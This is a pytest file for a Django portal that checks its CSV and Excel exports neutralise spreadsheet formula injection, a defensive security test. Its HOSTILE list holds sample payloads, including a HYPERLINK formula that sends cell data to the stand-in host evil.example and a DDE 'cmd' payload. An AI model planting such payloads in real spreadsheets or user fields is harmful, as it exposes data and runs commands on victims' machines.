"""Finding 2: text typed by a user never becomes a live formula in a CSV or Excel download."""

import io

import pytest
from openpyxl import load_workbook

from fiches_actions.enums import StatutFiche
from fiches_actions.models import FicheAction
from gouvernance.services import seance_convene
from habilitations.enums import Role
from portail.exports import neutralise

from ..conftest import mandate
from ..fiches_actions.conftest import complete_fiche, of_first_phase
from ..gouvernance.conftest import in_days
from ..portail.test_exports import csv_rows

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tcaché",
    "\rretour",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_the_one_rule_prefixes_every_formula_trigger(value):
    assert neutralise(value) == "'" + value
    assert neutralise("Usine 4.0") == "Usine 4.0" and neutralise(-3) == -3


def xlsx_cells(response):
    """Every cell of the workbook, with its type as Excel stores it (« f » would be a formula)."""
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert(client, url, hostile):
    csv_values = [value for row in csv_rows(client.get(url, {"format": "csv"})) for value in row]
    assert "'" + hostile in csv_values, "the hostile value is kept, made inert"
    assert hostile not in csv_values
    cells = xlsx_cells(client.get(url, {"format": "xlsx"}))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no formula in the workbook"
    assert "'" + hostile in [cell.value for cell in cells]


@pytest.fixture
def hostile_world(gov, porteur_a1):
    fiche = complete_fiche(
        of_first_phase(gov.world.a1),
        porteur_a1,
        titre=HOSTILE[0],
        porteur_organisation=HOSTILE[3],
        axe="simplifier",
        texte_concerne=HOSTILE[1],
    )
    FicheAction.objects.filter(pk=fiche.pk).update(statut=StatutFiche.VALIDEE)
    type(gov.world.a1).objects.filter(pk=gov.world.a1.pk).update(nom=HOSTILE[2])
    seance_convene(comite=gov.comite_a1, by=gov.chef_a1, date=in_days(3), lieu=HOSTILE[0], points_libres=["Point"])
    return gov


def test_fiche_list_export(hostile_world, client):
    client.force_login(hostile_world.chef_a1)
    assert_inert(client, "/fiches/", HOSTILE[0])
    assert_inert(client, "/fiches/", HOSTILE[3])


def test_simplification_export(hostile_world, client):
    client.force_login(mandate(Role.DELEGATION_NATIONALE))
    assert_inert(client, "/fiches/simplification/", HOSTILE[1])


def test_territory_exports(hostile_world, client):
    client.force_login(hostile_world.pilote_a)
    assert_inert(client, "/territoires/", HOSTILE[2])
    assert_inert(client, f"/regions/{hostile_world.world.region_a.code}/", HOSTILE[2])


def test_committee_exports(hostile_world, client):
    client.force_login(hostile_world.chef_a1)
    assert_inert(client, f"/comites/{hostile_world.comite_a1.pk}/", HOSTILE[0])
    client.force_login(mandate(Role.DELEGATION_NATIONALE))
    assert_inert(client, "/gouvernance/nationale/", HOSTILE[2])
